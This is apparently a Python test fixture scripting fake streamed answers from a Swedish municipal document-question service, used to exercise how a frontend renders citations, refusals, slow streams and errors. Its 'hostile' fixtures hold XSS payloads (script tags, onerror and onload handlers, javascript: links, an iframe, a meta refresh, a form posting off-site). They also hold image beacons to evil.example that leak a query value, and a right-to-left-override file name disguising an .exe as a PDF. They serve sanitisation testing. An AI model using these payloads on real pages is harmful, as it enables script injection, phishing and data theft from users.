"""What the scripted gateway says: models, documents, and one answer for each kind of question."""

from collections.abc import Iterator
from dataclasses import dataclass

Frame = tuple[str, dict[str, object], bool]

MODELS = [
    {
        "name": "citat",
        "kind": "extractive",
        "title": "Citat",
        "description": "Svarar med meningar ordagrant ur era dokument. Hittar inte på något.",
        "languages": ["sv", "en"],
        "default": True,
        "ceiling": "internal",
        "writes_swedish": True,
    },
    {
        "name": "svensk",
        "kind": "chat",
        "title": "Skribent",
        "description": "Skriver ett sammanhängande svar på svenska med hänvisningar.",
        "languages": ["sv", "en"],
        "default": False,
        "ceiling": "internal",
        "writes_swedish": True,
    },
    {
        "name": "liten",
        "kind": "chat",
        "title": "Liten demomodell",
        "description": "En mycket liten modell för att prova tekniken.",
        "languages": ["en"],
        "default": True,
        "ceiling": "k1",
        "writes_swedish": False,
    },
]

COLLECTIONS = [
    {"id": "styr", "name": "Styrdokument", "documents": 12},
    {"id": "prot", "name": "Protokoll från kommunfullmäktige 2024–2026", "documents": 48},
]

HOSTILE_NAME = "avtal\u202efdp.exe <img src=x onerror=alert(1)>.pdf"


@dataclass(frozen=True, slots=True)
class Paper:
    """A document of a few pages."""

    name: str
    pages: tuple[str, ...]

    def page(self, document: str, number: int) -> dict[str, object]:
        text = self.pages[number - 1]
        return {
            "document": document,
            "name": self.name,
            "page": number,
            "pages": len(self.pages),
            "text": text,
        }


FILLER = "Det här avsnittet beskriver bakgrunden till policyn och hur den har tagits fram. " * 24
TELEWORK = "Distansarbete får ske högst två dagar i veckan efter överenskommelse med närmaste chef."
EQUIPMENT = "Arbetsgivaren svarar för den utrustning som behövs; den lämnas tillbaka när avtalet upphör."

DOCUMENTS = {
    "policy": Paper(
        "Policy för distansarbete.pdf",
        (
            "Policy för distansarbete\n\nAntagen av kommunstyrelsen.",
            "Innehåll\n\n1. Bakgrund\n2. Regler",
            f"1. Bakgrund 🏛\n\n{FILLER}\n\n2. Regler\n\n{TELEWORK}\n\n3. Utrustning\n\n{EQUIPMENT}\n\n{FILLER}",
        ),
    ),
    "hostile": Paper(
        HOSTILE_NAME,
        (
            "<script>alert(1)</script> <img src=https://evil.example/p.gif> [klicka](https://evil.example) "
            "\u202eredro\u202c Logga in på nytt här: https://evil.example/login",
        ),
    ),
}

LONG_WORD = "Överenskommelseförhandlingsunderlag"

PROSE = f"""## Sammanfattning

Ni får arbeta på distans **två dagar i veckan** [1]. Utrustningen står arbetsgivaren för [2], och en påhittad källa
får ingen länk [9].

| Fråga | Svar | Underlag |
|---|---|---|
| Hur ofta? | Högst två dagar i veckan | {LONG_WORD} |
| Vem beslutar? | Närmaste chef | Policy för distansarbete |

1. Prata med din chef.
2. Skriv en överenskommelse.

- [x] Policyn är antagen
- [ ] Avtalet är skrivet

```text
en kodrad som är så lång att den måste kunna rullas i sidled utan att sidan runt omkring den börjar röra på sig
```
"""

HOSTILE = """Bild: ![stulen](https://evil.example/x.gif?q=hemligt) och ![](data:image/svg+xml,<svg onload=alert(1)>)

<script>alert(1)</script><img src=x onerror=alert(1)><iframe src=https://evil.example></iframe>
<meta http-equiv=refresh content="0;url=https://evil.example"><form action=https://evil.example><input name=a></form>

[Öppna](https://evil.example/?q=SLUMP) [skript](javascript:alert(1)) [data](data:text/html,<script>1</script>)
https://evil.example/auto <https://evil.example/vinkel> [1] [ref][1]

[1]: https://evil.example/ref "titel"

Fotnot[^a].

[^a]: ![x](https://evil.example/fot.gif)

| ![a](https://evil.example/cell.gif) | b |
|---|---|
| <b onclick=alert(1)>c</b> | \u202eomvänd |
""".replace("SLUMP", "x" * 200)


@dataclass(frozen=True, slots=True)
class Refusal:
    """A question that is refused before any answer begins."""

    status: int
    slug: str


def script_for(question: str, model: object) -> Iterator[Frame] | Refusal:
    """The answer to a question, by a word in it; else a few quotes or a few paragraphs, as the model has it."""
    refusals = {"loggen": Refusal(503, "audit_unavailable"), "utloggad": Refusal(401, "not_logged_in")}
    for word, refusal in refusals.items():
        if word in question:
            return refusal
    scripts = {
        "stöd": unsupported,
        "fientlig": hostile,
        "långsam": slow,
        "bryt": cut_off,
        "brister": breaks,
    }
    for word, script in scripts.items():
        if word in question:
            return script()
    return quoted() if model in (None, "citat") else prose(str(model))


def start(model: str, kind: str) -> Frame:
    return ("start", {"call": "call-1", "model": model, "kind": kind}, True)


def deltas(text: str, step: int = 12, *, is_slow: bool = False) -> Iterator[Frame]:
    for begin in range(0, len(text), step):
        yield ("delta", {"text": text[begin : begin + step]}, is_slow)


def cite(index: int, document: str, page: int | None, quote: str) -> dict[str, object]:
    paper = DOCUMENTS[document]
    begin = max(paper.pages[(page or 1) - 1].find(quote), 0)
    end = begin + len(quote)
    return {
        "index": index,
        "document": document,
        "name": paper.name,
        "page": page,
        "start": begin,
        "end": end,
        "quote": quote,
        "score": 0.9,
    }


def done(*, supported: bool = True, finish: str = "stop") -> Frame:
    usage = {"prompt_tokens": 100, "completion_tokens": 50}
    return ("done", {"finish": finish, "usage": usage, "supported": supported}, False)


def quoted() -> Iterator[Frame]:
    yield start("citat", "extractive")
    yield from deltas(f"{TELEWORK} [1] {EQUIPMENT} [2]")
    yield ("citations", {"items": [cite(1, "policy", 3, TELEWORK), cite(2, "policy", 3, EQUIPMENT)]}, False)
    yield done()


def prose(model: str) -> Iterator[Frame]:
    yield start(model, "chat")
    yield from deltas(PROSE)
    yield ("citations", {"items": [cite(1, "policy", 3, TELEWORK), cite(2, "policy", 3, EQUIPMENT)]}, False)
    yield done()


def unsupported() -> Iterator[Frame]:
    yield start("citat", "extractive")
    yield from deltas("Inga källor i era dokument stöder ett svar på frågan.", 60)
    yield ("citations", {"items": []}, False)
    yield done(supported=False)


def hostile() -> Iterator[Frame]:
    yield start("svensk", "chat")
    yield from deltas(HOSTILE, 7)
    yield ("citations", {"items": [cite(1, "hostile", None, "<script>alert(1)</script>")]}, False)
    yield done()


def slow() -> Iterator[Frame]:
    yield start("svensk", "chat")
    yield from deltas("Ett svar som kommer ord för ord och aldrig tycks ta slut. " * 60, 10, is_slow=True)
    yield done()


def cut_off() -> Iterator[Frame]:
    yield start("svensk", "chat")
    yield from deltas("Halva svaret")


def breaks() -> Iterator[Frame]:
    yield start("svensk", "chat")
    yield from deltas("Halva svaret")
    yield ("error", {"slug": "model_failed", "title": "x", "status": 502, "request_id": "req-9c"}, False)
